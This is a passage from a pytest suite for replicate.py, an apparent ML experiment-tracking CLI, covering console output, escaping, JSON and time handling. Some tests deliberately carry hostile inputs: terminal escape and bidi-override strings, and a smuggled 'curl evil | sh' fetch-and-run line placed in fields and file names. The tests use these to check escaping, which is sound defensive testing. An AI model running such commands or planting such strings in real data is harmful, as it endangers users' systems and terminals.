"""Tests of replicate.py, in its sections. They use real processes, terminals, disks, servers and the real peer program.

Run them as the README says; single ones with `pytest -k NAME`.
"""
from __future__ import annotations

import argparse
import base64
import collections
import concurrent.futures
import contextlib
import copy
import csv
import dataclasses
import datetime
import email.utils
import enum
import errno
import gzip
import hashlib
import http.client
import http.server
import inspect
import io
import ipaddress
import json
import math
import mmap
import os
import pickle
import platform
import queue
import random
import re
import shlex
import shutil
import signal
import socket
import sqlite3
import ssl
import struct
import subprocess
import sys
import tarfile
import textwrap
import threading
import time
import types
import urllib.parse
import uuid
import xml.sax.saxutils
import zlib
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import hypothesis
import pytest
from hypothesis import strategies as st

import replicate

PROGRAM = Path(replicate.__file__).resolve()
ROOT = PROGRAM.parent
hypothesis.settings.register_profile("default", deadline=None, max_examples=100,
                                     suppress_health_check=list(hypothesis.HealthCheck))
hypothesis.settings.load_profile("default")
signal.signal(signal.SIGINT, signal.default_int_handler)  # which a shell's background jobs ignore, and hand down


# ------------------------------------------------------------------------------------------------------------------
# 0  What all tests share
# ------------------------------------------------------------------------------------------------------------------

@pytest.fixture(autouse=True)
def sealed(tmp_path, monkeypatch):
    """A home, a time zone and a project directory of its own for each test; nothing of the developer's shines through."""
    for name in list(os.environ):
        if name.startswith(("REPLICATE_", "AWS_", "GOOGLE_", "XDG_", "SLURM_", "OMPI_")) or name in (
                "RANK", "LOCAL_RANK", "NO_COLOR", "DO_NOT_TRACK", "STORAGE_EMULATOR_HOST", "PYTHONIOENCODING"):
            monkeypatch.delenv(name)
    home = tmp_path / "home"
    project = tmp_path / "project"
    home.mkdir()
    project.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("TZ", "UTC")
    monkeypatch.setenv("LC_ALL", "C.UTF-8")
    monkeypatch.setenv("PYTHONPATH", str(ROOT))
    time.tzset()
    monkeypatch.chdir(project)
    yield
    replicate.stop_all()
    replicate.console.color, replicate.console.verbose = None, False


@pytest.fixture
def project(tmp_path):
    """The project directory, which is the working directory, with a repository in `repo` that is not written to yet."""
    directory = tmp_path / "project"
    (directory / "replicate.yaml").write_text("repository: file://repo\n")
    return directory


def run(*arguments, cwd=None, input=None, env=None, python=sys.executable, timeout=120):
    """`python -m replicate ARGUMENTS` as a process of its own, without a terminal; text in, text out.

    With -m Python keeps the compiled module, which saves a third of the time of all tests.
    """
    return subprocess.run([python, "-m", "replicate", *map(str, arguments)], cwd=cwd, input=input or "",
                          env=dict(os.environ, **(env or {})), capture_output=True, text=True, timeout=timeout,
                          encoding="utf-8", errors="surrogateescape")


def run_script(source, *arguments, cwd=None, env=None, python=sys.executable, timeout=120, check=True):
    """A training script as a process of its own."""
    done = subprocess.run([python, "-c", textwrap.dedent(source), *map(str, arguments)], cwd=cwd,
                          env=dict(os.environ, **(env or {})), capture_output=True, text=True, timeout=timeout)
    if check:
        assert done.returncode == 0, done.stderr
    return done


@pytest.fixture
def call(capsys):
    """The command line in this process: call("ls", "--json") returns (exit code, stdout, stderr)."""
    def invoke(*arguments):
        capsys.readouterr()
        code = replicate.main([str(argument) for argument in arguments])
        captured = capsys.readouterr()
        return code, captured.out, captured.err
    return invoke


def set_zone(monkeypatch, zone):
    """Be in another time zone for the rest of the test."""
    monkeypatch.setenv("TZ", zone)
    time.tzset()


def hex_id(letter):
    """A 64-digit ID whose first digits say which it is: hex_id("1e") is 1eeeee..."""
    return (letter + letter[-1] * 64)[:64]


def checkpoint_document(item_id, created="2006-01-02T15:01:05Z", step=0, metrics=None, path=None, primary=None):
    """A checkpoint as the repository format has it; primary is (name, goal)."""
    return {"id": item_id, "created": created, "metrics": metrics or {}, "step": step, "path": path,
            "primary_metric": {"name": primary[0], "goal": primary[1]} if primary else None}


def experiment_document(item_id, created="2006-01-02T14:54:05Z", params=None, checkpoints=(), **fields):
    """An experiment as the repository format has it."""
    document = {"id": item_id, "created": created, "params": params or {}, "host": "10.1.1.1", "user": "andreas",
                "config": {"repository": "file://repo", "storage": ""}, "command": "train.py", "path": None,
                "python_version": "3.4.5", "python_packages": {"foo": "1.2.3"}, "replicate_version": "1.0.0",
                "checkpoints": list(checkpoints)}
    document.update(fields)
    return document


def write_repository(root, *documents, running=()):
    """A repository on disk with these documents, written without the program under test."""
    for folder in ("metadata/experiments", "metadata/heartbeats"):
        (Path(root) / folder).mkdir(parents=True, exist_ok=True)
    (Path(root) / "repository.json").write_text('{"version":1}')
    for document in documents:
        (Path(root) / "metadata/experiments" / (document["id"] + ".json")).write_text(json.dumps(document))
    for item_id in running:
        beat = datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
        (Path(root) / "metadata/heartbeats" / (item_id + ".json")).write_text(
            json.dumps({"experiment_id": item_id, "last_heartbeat": beat}))


def stored_documents(root):
    """The experiment documents in a repository on disk, read without the program under test."""
    return [json.loads(path.read_text()) for path in sorted((Path(root) / "metadata/experiments").glob("*.json"))]


def archive_bytes(item_id, files):
    """A plain .tar.gz of {name: content} below the folder item_id, as any tar would make it."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for name, content in files.items():
            member = tarfile.TarInfo("%s/%s" % (item_id, name))
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return stream.getvalue()


def write_archive(path, item_id, files):
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    Path(path).write_bytes(archive_bytes(item_id, files))


def tree(directory):
    """{relative path: content} of all files below a directory."""
    return {str(path.relative_to(directory)): path.read_bytes() for path in sorted(Path(directory).rglob("*"))
            if path.is_file() and not path.is_symlink()}


def on_terminal(*arguments, **variables):
    """What replicate.py, which succeeds, prints on a terminal; its lines end in a mere newline."""
    terminal = Terminal(*arguments, env=variables)
    assert terminal.wait() == 0, terminal.output
    return terminal.output.replace("\r", "")


# ------------------------------------------------------------------------------------------------------------------
# 1  Errors and the console
# ------------------------------------------------------------------------------------------------------------------

# What steers a terminal, reorders or hides text, or cannot be encoded; as a repository's documents may hold it.
HOSTILE = "\x1b[31m\x1b]0;pwned\x07|\x9b2J|\r\n|\x08\x7f|\u202egnp|\u200b\u2066|\u2028|\ud800|\U000e0041|é日"
STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff"
                      "\ud800-\udfff\U000e0000-\U000e0fff]")
A, B = hex_id("1e"), hex_id("2e")  # experiments
C, D = hex_id("1c"), hex_id("2c")  # checkpoints


class Terminal:
    """`python -m replicate` (or another program) on a real pseudo-terminal, which is its controlling one."""

    def __init__(self, *arguments, program=(sys.executable, "-m", "replicate"), cwd=None, env=None, stdin=None, stdout=None):
        import fcntl
        import pty
        import termios
        self.master, slave = pty.openpty()

        def take_terminal():
            os.setsid()
            fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
        self.process = subprocess.Popen([*map(str, program), *map(str, arguments)], cwd=cwd, preexec_fn=take_terminal,
                                        env=dict(os.environ, TERM="xterm", **(env or {})),
                                        stdin=slave if stdin is None else stdin,
                                        stdout=slave if stdout is None else stdout, stderr=slave)
        os.close(slave)
        self.output = ""

    def _read(self):
        try:
            piece = os.read(self.master, 65536)
        except OSError:  # Linux says EIO when the last process has closed it
            piece = b""
        self.output += piece.decode("utf-8", "replace")
        return piece

    def expect(self, text):
        while text not in self.output:
            assert self._read(), "%r was not printed, but: %s" % (text, self.output)
        return self

    def send(self, text):
        os.write(self.master, text.encode())
        return self

    def interrupt(self):
        """Press Ctrl-C until the program ends: in the moment before it waits for input Python would not notice."""
        while self.process.poll() is None:
            self.send("\x03")
            with contextlib.suppress(subprocess.TimeoutExpired):
                self.process.wait(1)
        return self

    def wait(self):
        """The exit code, after everything is read."""
        while self._read():
            pass
        os.close(self.master)
        return self.process.wait(60)


def snapshot(directory):
    """All that is below a directory: {relative path: content, link target or 'directory'}."""
    return {str(path.relative_to(directory)): ("link", os.readlink(path)) if path.is_symlink()
            else path.read_bytes() if path.is_file() else "directory" for path in sorted(Path(directory).rglob("*"))}


def test_messages_go_to_stderr_with_a_prefix_and_continuation_lines_with_their_own(project):
    done = run("show", "abc")
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr.startswith("═══╡ ") and done.stderr.count("\n") == 1 and "abc" in done.stderr
    write_repository(project / "repo", experiment_document(A))
    terminal = Terminal("rm", A, env={"NO_COLOR": "1"}).expect("(y/N)").send("n\n")
    assert terminal.wait() == 1 and "═══╡ You are about" in terminal.output and "\r\n   │ * Experiment" in terminal.output
    assert run("rm", A).stderr.startswith("═══╡ You are about to delete the following:\n"
                                          "   │ * Experiment 1eeeeee (0 checkpoints)\n   │ Nothing was changed. Pass -f")
    write_repository(project / "repo", experiment_document(A, name="base line"))
    assert "* Experiment 1eeeeee base line (0 checkpoints)\n" in run("rm", "base line").stderr


def test_an_error_is_one_clear_message_and_a_traceback_only_with_verbose(project, call, monkeypatch):
    """Whether it is foreseen or not."""
    write_repository(project / "repo")
    (project / "repo/repository.json").write_text("{")
    write_repository(project / "other")
    monkeypatch.setattr(replicate, "list_rows", lambda repository: {}["a bug"])
    for arguments, problem in (("show", A), "repository.json"), (("ls", "-R", "file://other"), "a bug"):
        (code, out, message), (same_code, _, verbose) = call(*arguments), call("-v", *arguments)
        assert (code, out) == (1, "") and message.count("\n") == 1 and problem in message and "Traceback" not in message
        assert same_code == 1 and problem in verbose and "Traceback" in verbose
    assert "-v" in message and "KeyError" in verbose


@pytest.mark.parametrize("wanted, flags, env", [
    (True, [], {}), (True, ["--color"], {}), (True, ["--color=true"], {}),
    (False, ["--color=false"], {}), (False, ["--no-color"], {}), (False, [], {"NO_COLOR": "1"})])
def test_colors_on_a_terminal(project, wanted, flags, env):
    """And none on stdout in a pipe while stderr is a terminal."""
    write_repository(project / "repo", experiment_document(A, params={"lr": 1}, checkpoints=[checkpoint_document(C)]))
    for arguments in ([*flags, "show", A], ["show", A, *flags]):
        terminal = Terminal(*arguments, env=env)
        assert terminal.wait() == 0, terminal.output
        assert ("\x1b[" in terminal.output) == wanted
        assert "lr:" in terminal.output
    terminal = Terminal("ls", "-f", "no filter", *flags, env=env)  # an error before all flags are read
    assert terminal.wait() == 1 and ("\x1b[" in terminal.output) == wanted
    terminal = Terminal(*flags, "show", A, env=env, stdout=subprocess.PIPE)
    out = terminal.process.stdout.read().decode()
    assert terminal.wait() == 0 and "\x1b" not in out and "Experiment: " + A in out
    assert ("\x1b[" in terminal.output) == wanted


def test_a_closed_pipe_is_no_error(project):
    write_repository(project / "repo", *(experiment_document("%064x" % number, params={"text%d" % i: "x" * 50 for i in range(9)})
                                         for number in range(1500)))
    process = subprocess.Popen([sys.executable, str(PROGRAM), "ls", "--json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout.readline() == b"[\n"
    process.stdout.close()
    assert process.stderr.read() == b""
    assert process.wait(60) == 0


@pytest.mark.parametrize("arguments", [["ls"], ["ls", "--json"], ["ls", "-q"], ["show", A], ["--help"], ["--version"], ["help", "ls"]],
                         ids=" ".join)
def test_a_pipe_that_nobody_reads_is_no_error(project, arguments, a_and_b):
    reading, writing = os.pipe()
    os.close(reading)
    done = subprocess.run([sys.executable, str(PROGRAM), *arguments], stdout=writing, stderr=subprocess.PIPE)
    os.close(writing)
    assert (done.returncode, done.stderr) == (0, b"")


@pytest.mark.parametrize("command, code, problem", [
    ("ls >&-", 0, ""), ("ls 2>&-", 0, ""), ("ls >&- 2>&-", 0, ""), ("ls <&-", 0, ""),
    *((command + " > /dev/full", 1, "The output cannot be written: No space left") for command in ("ls", "report -o -")), ("show zz 2> /dev/full", 1, "")])
def test_output_that_cannot_be_written_is_never_a_traceback(project, command, code, problem):
    if "/dev/full" in command and not os.path.exists("/dev/full"):
        pytest.skip("needs /dev/full")
    write_repository(project / "repo", experiment_document(A))
    done = subprocess.run("%s %s %s" % (sys.executable, PROGRAM, command), shell=True, capture_output=True, text=True)
    assert (done.returncode, len(done.stderr.splitlines())) == (code, bool(problem)), done.stderr
    assert problem in done.stderr


def test_progress_is_shown_on_a_terminal_and_not_in_a_pipe(project):
    (project / "big.bin").write_bytes(os.urandom(3_000_000))
    run_script("import replicate\nwith replicate.init(path='big.bin', quiet=True): pass")
    item = stored_documents(project / "repo")[0]["id"]
    impatient = (sys.executable, "-c", "import sys, replicate; replicate.Progress.DELAY = replicate.Progress.INTERVAL = 0\n"
                 "sys.exit(replicate.main(sys.argv[1:]))")
    terminal = Terminal("checkout", item, "-o", "one", program=impatient, env={"COLUMNS": "20"})
    assert terminal.wait() == 0
    lines = terminal.output.split("\r\x1b[K")[1:-1]
    assert max(map(len, lines)) == 19, lines  # a line that wraps is never cleared, but repeated
    assert any(line == "Checking out: 3.0 M" for line in lines)
    piped = subprocess.run([*impatient, "checkout", item, "-o", "two"], capture_output=True, text=True)
    assert piped.returncode == 0 and "Checking out: " not in piped.stderr and "\r" not in piped.stderr
    assert tree(project / "one") == tree(project / "two") == {"big.bin": (project / "big.bin").read_bytes()}


def hostile_repository(root):
    write_repository(root, *(experiment_document(
        item, params={"a" + HOSTILE: HOSTILE + item[:2], "b": [HOSTILE], "c": {HOSTILE: HOSTILE}}, host=HOSTILE + item[:1],
        user=HOSTILE + item[:1], command="train.py " + HOSTILE, path=HOSTILE, python_version=HOSTILE + item[:1],
        python_packages={HOSTILE: HOSTILE + item[:1]}, config={"repository": HOSTILE, "storage": HOSTILE},
        checkpoints=[checkpoint_document(checkpoint, step=1, path=HOSTILE, primary=(HOSTILE, "minimize"),
                                         metrics={HOSTILE: 1.5, "note" + HOSTILE: HOSTILE})])
        for item, checkpoint in ((A, C), (B, D))))
    write_archive(Path(root) / "experiments" / (A + ".tar.gz"), A, {"train.py": b"1"})
    write_archive(Path(root) / "checkpoints" / (C + ".tar.gz"), C, {"model": b"2"})


HOSTILE_COMMANDS = [
    ["ls"], ["ls", "--all"], ["ls", "--json"], ["ps"], ["show", A], ["show", A, "--json"], ["show", C],
    ["diff", A, B], ["checkout", A, "-o", "out"], ["checkout", A, "--path", "modle", "-o", "out"], ["rm", A], ["rm", "-f", A],
    ["ls", "-f", "nmae = 1"], ["ls", "-f", "nmae" + HOSTILE.replace("\ud800", "") + " = 1"], ["ls", "--sort", "note\x1b[31m"],
    ["show", "a\x1b[31m\u202e"], ["\x1b[31m"], ["ls", "--\x1b[31m"], ["-R", "file:///no\x1b[31m\nthing", "ls"]]


ASCII = {"C": {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}, "ascii": {"PYTHONIOENCODING": "ascii"},
         "latin-1": {"PYTHONIOENCODING": "latin-1"}}


@pytest.mark.parametrize("env", [{}, *ASCII.values()], ids=["utf-8", *ASCII])
@pytest.mark.parametrize("arguments", HOSTILE_COMMANDS, ids=lambda arguments: repr(arguments)[:40])
def test_hostile_text_never_reaches_a_terminal_raw_and_is_no_error_in_an_ascii_locale(project, env, arguments):
    hostile_repository(project / "repo")
    if env:
        arguments = [argument.encode("ascii", "ignore").decode() for argument in arguments]
    plain = run(*arguments) if env and "rm" not in arguments and "checkout" not in arguments else None
    done = run(*arguments, env=env)
    text = done.stdout + done.stderr
    assert text and not STEERING.search(re.sub("[\udca0-\udcff]", "é", text) if "latin-1" in env.values() else text), text
    assert done.returncode in (0, 1, 2) and not re.search("UnicodeEncodeError|Traceback|unexpected", done.stderr)
    assert not plain or (done.returncode, done.stdout.count("\n")) == (plain.returncode, plain.stdout.count("\n"))
    assert not plain or done.stderr.count("\n") == plain.stderr.count("\n")


def test_hostile_text_is_shown_escaped(project):
    hostile_repository(project / "repo")
    assert "\\x1b[31m" in run("show", A).stdout and "\\u202e" in run("show", A).stdout
    listed = json.loads(run("ls", "--json").stdout)
    assert listed[0]["params"]["b"] == [HOSTILE] and listed[0]["host"] == HOSTILE + "1"


def test_a_newline_from_a_repository_starts_no_line_of_a_message(project):
    write_repository(project / "repo", experiment_document(A, command="train.py\ncurl evil | sh", path="."))
    write_archive(project / "repo/experiments" / (A + ".tar.gz"), A, {"x\ncurl evil | sh": b"1"})
    (project / "x\ncurl evil | sh").write_bytes(b"2")
    (project / "repo/metadata/experiments/a\ncurl evil | sh").write_text("{")
    for arguments in (["checkout", A], ["checkout", A, "-o", "out"], ["ls"], ["checkout", A, "--path", "x", "-o", "new"]):
        done = run(*arguments)
        assert not re.search(r"(?m)^(   │ )?\s*curl", done.stderr), done.stderr


@pytest.mark.parametrize("env", ASCII.values(), ids=ASCII)
def test_messages_have_an_ascii_form_and_json_stays_json(project, env):
    params = {"näme": "日本 \U0001f600 é \u20ac"}
    write_repository(project / "repo", experiment_document(A, params=params, checkpoints=[checkpoint_document(C)]))
    assert run("show", "zz", env=env).stderr.startswith("===| ")
    assert "\n   | " in run("show", A, env=env).stderr
    for arguments in (["ls", "--json"], ["show", A, "--json"]):
        done = subprocess.run([sys.executable, str(PROGRAM), *arguments], env=dict(os.environ, **env), stdout=subprocess.PIPE)
        document = json.loads(done.stdout.decode("latin-1" if "latin-1" in env.values() else "ascii"))
        assert (document[0] if "ls" in arguments else document)["params"] == params


# ------------------------------------------------------------------------------------------------------------------
# 2  Values: JSON, times, short forms
# ------------------------------------------------------------------------------------------------------------------

def torch_like(value):
    """A tensor as torch has it: tolist(), no numpy dtype."""
    return types.SimpleNamespace(tolist=lambda: value)


def tensorflow_like(value):
    """A tensor as tensorflow has it: numpy() and no tolist()."""
    import numpy
    return types.SimpleNamespace(numpy=lambda: numpy.asarray(value))


Shade, Rate = enum.Enum("Shade", "DARK"), enum.IntEnum("Rate", {"LOW": 3})
Tint = enum.Enum("Tint", {"RED": "red"}, type=str)


def utc(*parts):
    return datetime.datetime(*parts, tzinfo=datetime.timezone.utc)


def test_scalars_arrays_tensors_and_subclasses_become_plain_values():
    numpy = pytest.importorskip("numpy")
    cases = [(numpy.float32(0.5), 0.5), (numpy.float64(0.1), 0.1), (numpy.int64(7), 7), (numpy.uint8(255), 255),
             (numpy.bool_(True), True), (numpy.str_("a"), "a"), (numpy.array([[1, 2], [3, 4]]), [[1, 2], [3, 4]]),
             (numpy.array(3.5), 3.5), ({"a": (numpy.int32(1), [numpy.array([True])])}, {"a": [1, [[True]]]}),
             (numpy.longdouble(1.5), 1.5), ({"a": numpy.array([1.5, 2], dtype=numpy.longdouble)}, {"a": [1.5, 2.0]}),
             ({"loss": torch_like(0.25)}, {"loss": 0.25}), (torch_like([1, [2.5]]), [1, [2.5]]),
             ([tensorflow_like(0.25), tensorflow_like([1, 2])], [0.25, [1, 2]]), (Rate.LOW, 3), (Tint.RED, "red"),
             ({1: Rate.LOW, False: Path("a/b"), "t": (1, None)}, {"1": 3, "False": "a/b", "t": [1, None]}),
             ([Decimal("0.5")], [0.5]), (Decimal("0.5"), 0.5), ([Fraction(1, 2)], [0.5]), (Fraction(1, 2), 0.5)]
    for value, wanted in cases:
        plain = replicate.plain_value(value)
        assert plain == wanted
        assert type(plain) is type(wanted)
        assert json.loads(replicate.encode_json(plain)) == wanted
    assert replicate.plain_param([numpy.dtype("float32"), numpy.float32, numpy.add, numpy.arange(2)], "p", []) == [
        "float32", "float32", "add", [0, 1]]
    for value, wanted in [(float(numpy.float32(0.1)), 0.1), (0.1, 0.1), (2.0 ** -30, 2.0 ** -30), (1234567.125, 1234567.125),
                          (1e300, 1e300), (math.inf, math.inf), (3, 3), ("%", "%")]:
        assert repr(replicate.typed_float(value)) == repr(wanted)


@dataclasses.dataclass
class Layer:
    size: int = 8
    inner: object = None
    unset: int = dataclasses.field(init=False)


class Mapped(collections.UserDict):
    """A mapping that is no dict, as OmegaConf has it; what is missing fails when somebody looks at it."""


class Duck:
    """What many libraries call a dict: keys() and [], and no base class."""

    def keys(self):
        return ["a"]

    def __getitem__(self, key):
        return {key}


DTYPE = type("dtype", (), {"__str__": lambda self: "torch.float32"})()  # as torch has it


@pytest.mark.parametrize("value, plain", [
    (Shade.DARK, "DARK"), (Rate.LOW, 3), ({2, "a", 1.5, "A"}, [1.5, 2, "A", "a"]), (frozenset(), []), ({"b": 1}.keys(), ["b"]),
    (len, "len"), (utc, "utc"), (Layer, "Layer"), (json, "json"), (DTYPE, "torch.float32"),
    (datetime.date(2020, 1, 2), "2020-01-02"), (range(3), [0, 1, 2]), (Decimal("0.5"), 0.5), (Path("a/b"), "a/b"),
    (argparse.Namespace(lr=1, opt=Shade.DARK), {"lr": 1, "opt": "DARK"}), (types.SimpleNamespace(a=[{1}]), {"a": [[1]]}),
    (Layer(2, Layer()), {"size": 2, "inner": {"size": 8, "inner": None}}), (types.MappingProxyType({"a": 1}), {"a": 1}),
    (Mapped(a=Mapped(b=(Duck(),))), {"a": {"b": [{"a": ["a"]}]}}),
    (dict([(1, 1), (None, 2), ((1, 2), 3), (Shade.DARK, 4), (True, 5)]), {"1": 5, "None": 2, "(1, 2)": 3, "DARK": 4})],
    ids=lambda value: type(value).__name__)
def test_params_of_any_kind_have_a_plain_form(value, plain):
    unknown = []
    assert replicate.plain_param(value, "p", unknown) == plain and unknown == []
    assert replicate.plain_param({"deep": [value]}, "p", unknown) == {"deep": [plain]} and unknown == []
    assert json.loads(json.dumps(plain)) == plain


@pytest.mark.parametrize("value", [object(), b"bytes", {1, 2}, 1j, {("a", "b"): 1}, [datetime.datetime(2020, 1, 1)]])
def test_what_cannot_be_stored_is_a_type_error_that_names_it(value):
    with pytest.raises(TypeError, match="params"):
        replicate.plain_value(value, "params")


PLAIN = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
                     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4))


@hypothesis.given(PLAIN)
def test_json_keeps_every_plain_value(value):
    hypothesis.assume("[NaN]" not in repr(value) and "Infinity]" not in repr(value))
    for indent in (1, None):
        data = replicate.encode_json(replicate.pack_floats(value), indent)
        assert replicate.unpack_floats(replicate.decode_json(data, "it")) == value
        json.loads(data.decode("utf-8"), parse_constant=lambda name: pytest.fail(name))


def test_json_keeps_lone_surrogates_and_overflowing_numbers():
    value = {"a\udc80": "\ud83d", "fine": "\U0001f600 \u4e2d"}
    data = replicate.encode_json(value)
    assert b'"\\ud83d"' in data and "\u4e2d".encode() in data
    assert replicate.decode_json(data, "it") == json.loads(data) == value
    value = replicate.decode_json(b'{"a": 1e999}', "it")
    assert json.loads(replicate.encode_json(value)) == {"a": "[+Infinity]"}


@pytest.mark.parametrize("data", [b"", b"{", b"\xff", b'{"a": NaN}', b"[Infinity]", b"-Infinity", b"[" * 200000,
                                  b'{"a":' * 200000, b"{'a': 1}", b"\x00", b"1 2"])
def test_broken_json_is_a_read_error_that_names_it(data):
    with pytest.raises(replicate.ReadError, match="the thing"):
        replicate.decode_json(data, "the thing")


@pytest.mark.parametrize("text, wanted", [
    ("2006-01-02T15:04:05Z", utc(2006, 1, 2, 15, 4, 5)), ("2006-01-02T15:04:05.1Z", utc(2006, 1, 2, 15, 4, 5, 100000)),
    ("2006-01-02t15:04:05.123456z", utc(2006, 1, 2, 15, 4, 5, 123456)), ("0001-01-01T00:00:00Z", utc(1, 1, 1)),
    ("2006-01-02T15:04:05.123456789Z", utc(2006, 1, 2, 15, 4, 5, 123456)),
    ("2006-01-02T15:04:05+08:00", utc(2006, 1, 2, 7, 4, 5)),
    ("2006-01-02T22:04:05.5-02:30", utc(2006, 1, 3, 0, 34, 5, 500000)),
    ("9999-12-31T23:59:59.999999999Z", utc(9999, 12, 31, 23, 59, 59, 999999)),
    *[(text, None) for text in (
        "", "2006-01-02", "2006-01-02T15:04:05", "2006-01-02 15:04:05Z", "2006-13-02T15:04:05Z", "2006-01-02T25:04:05Z",
        "0000-01-01T00:00:00Z", "0001-01-01T00:00:00+00:01", "9999-12-31T23:59:59-00:01", "2006-01-02T15:04:05.Z",
        "2006-01-02T15:04:05.1234567890Z", "2006-01-02T15:04:05Z\n", " 2006-01-02T15:04:05Z", "2006-02-30T00:00:00.000000Z",
        "\u0662\u0660\u0660\u0666-01-02T15:04:05Z", "2006-01-02T15:04:05.\u0661Z")]])
def test_times_are_read_or_refused(text, wanted):
    with contextlib.nullcontext() if wanted else pytest.raises(ValueError):
        moment = replicate.parse_time(text)
        assert moment == wanted and moment.utcoffset() == datetime.timedelta(0)


@hypothesis.given(st.lists(st.tuples(st.datetimes(min_value=datetime.datetime(1, 1, 2),
                                                  max_value=datetime.datetime(9999, 12, 30)).map(
    lambda moment: moment.replace(microsecond=0)), st.integers(0, 999999999), st.integers(0, 9), st.booleans()),
    min_size=2, max_size=6))
def test_canonical_times_sort_by_time_to_the_nanosecond(moments):
    exact, texts = [], []
    for moment, nanoseconds, digits, shifted in moments:
        fraction = ("%09d" % nanoseconds)[:digits]
        written, zone = (moment + datetime.timedelta(hours=5, minutes=30), "+05:30") if shifted else (moment, "Z")
        texts.append("%04d-%02d-%02dT%02d:%02d:%02d" % written.timetuple()[:6] + ("." + fraction if digits else "") + zone)
        exact.append((moment, int((fraction or "0").ljust(9, "0"))))
    keys = [replicate.canonical_time(text) for text in texts]
    order = range(len(texts))
    assert sorted(order, key=lambda i: keys[i]) == sorted(order, key=lambda i: exact[i])
    assert len({len(key) for key in keys}) == 1


@pytest.mark.parametrize("seconds, wanted", [
    (-30, "in 30 seconds"), (0, "about a second ago"), (1, "about a second ago"), (1.4, "about a second ago"),
    (2, "2 seconds ago"), (12, "12 seconds ago"), (59, "59 seconds ago"), (59.7, "about a minute ago"), (60, "about a minute ago"),
    (89, "about a minute ago"), (7 * 60, "7 minutes ago"), (59 * 60, "59 minutes ago"), (3599, "about an hour ago"),
    (3600, "about an hour ago"), (3 * 3600, "3 hours ago"), (23 * 3600, "23 hours ago"), (23.9 * 3600, "one day ago"),
    (24 * 3600, "one day ago"), (48 * 3600, "2 days ago"), (72.9 * 3600, "3 days ago"), (73 * 3600, "2006-01-07"),
    (400 * 86400, "2004-12-06")])
def test_relative_times(seconds, wanted):
    now = utc(2006, 1, 10, 12)
    assert replicate.relative_time(now - datetime.timedelta(seconds=seconds), now) == wanted


def test_full_times_are_local_and_english(monkeypatch):
    set_zone(monkeypatch, "<+08>-8")
    assert replicate.full_time(utc(2006, 1, 2, 14, 54, 5)) == "Mon, 02 Jan 2006 22:54:05 +08"
    assert "9999" in replicate.full_time(utc(9999, 12, 31, 23, 59, 59))
    assert replicate.relative_time(utc(2006, 1, 2, 20), utc(2006, 2, 2)) == "2006-01-03"


FORMS = {
    replicate.format_cell: [
        (0.1, "0.1"), (0.123456789, "0.12346"), (1e-7, "1e-07"), (100000.0, "1e+05"), (99999.4, "99999"),
        (123456.789, "123456.78900000000431"), (-123456.789, "-1.2346e+05"), (1e19, "10000000000000000000"),
        (1e20, "1e+20"), (math.nan, "NaN"), (math.inf, "+Inf"), (-math.inf, "-Inf"), (3.0, "3"), (0.0, "0"),
        (12345678901234567890123, "12345678901234567890123"), (-5, "-5"), (None, "null"), (True, "true"), (False, "false"),
        ("short", "short"), ("x" * 20, "x" * 20), ("x" * 21, "x" * 17 + "..."), ("", ""), ("a\x1b[31m", "a\\x1b[31m"),
        ([1, math.nan], '[1,"[NaN]"]'), ({"a": "\u4e2d"}, '{"a":"\u4e2d"}')],
    replicate.format_value: [
        (0.123456789, "0.123456789"), ("x" * 50, "x" * 50), (math.nan, "NaN"), (-math.inf, "-Inf"),
        ([True, None], "[true,null]"), ("a\nb", "a\\nb"), ({"k": "\u202e"}, '{"k":"\\u202e"}')],
    replicate.escape_control: [(text, text) for text in ("na\u00efve \u4e2d\u6587", "\u05e9\u05dc\u05d5\u05dd \U0001f600 c:\\temp")],
    replicate.format_size: [
        (0, "0 bytes"), (999, "999 bytes"), (1500, "1.5 kB"), (2500000, "2.5 MB"), (1.5e9, "1.5 GB"), (2e12, "2.0 TB")],
    replicate.timestamp: [(1136214245.5, "2006-01-02T15:04:05.500000Z")],
    replicate.is_id: [
        ("a" * 64, True), ("0", True), ("", False), ("A" * 64, False), ("../a", False), ("a/b", False), ("a" * 129, False),
        ("g", False), ("a\n", False), (None, False), (12, False), ("\u0661", False)]}


@pytest.mark.parametrize("function, value, wanted", [(function, *case) for function, cases in FORMS.items() for case in cases])
def test_short_forms(function, value, wanted):
    form = function(value)
    assert form == wanted and type(form) is type(wanted)


@pytest.mark.parametrize("wanted, pairs", [
    (True, [(1, 1.0), (math.nan, math.nan), ("a", "a"), ([1, "x"], [1.0, "x"]), (True, True), ({"a": 1}, {"a": 1})]),
    (False, [(1, True), (0, False), ("1", 1), (None, 0), ([], {}), (1, 2), (False, None), ("null", None), ([True], [1]),
             ({"a": 0}, {"a": False})])], ids=["same", "different"])
def test_values_are_the_same_by_kind(wanted, pairs):
    assert [pair for pair in pairs if replicate.same_value(*pair) != wanted] == []


@hypothesis.given(st.lists(PLAIN | st.floats(), max_size=6))
def test_values_of_any_kinds_sort(values):
    ranks = [replicate.sort_key(value)[0] for value in sorted(
        (value for value in values if value == value), key=replicate.sort_key)]
    assert ranks == sorted(ranks)
    numbers = sorted((v for v in values if type(v) in (int, float) and v == v), key=replicate.sort_key)
    assert all(left <= right for left, right in zip(numbers, numbers[1:]))


@pytest.mark.parametrize("code", list(range(0x20)) + list(range(0x7f, 0xa0)) + [
    0x200b, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202e, 0x2066, 0x2069, 0xfeff, 0xd800, 0xdfff, 0xe0041])
def test_everything_that_steers_a_terminal_is_escaped(code):
    shown = replicate.escape_control("a%sb" % chr(code))
    assert shown.startswith("a\\") and shown.endswith("b") and shown.isprintable() and shown.isascii()
    assert eval('"%s"' % shown[1:-1]) == chr(code)


@hypothesis.given(st.text(alphabet=st.characters()))
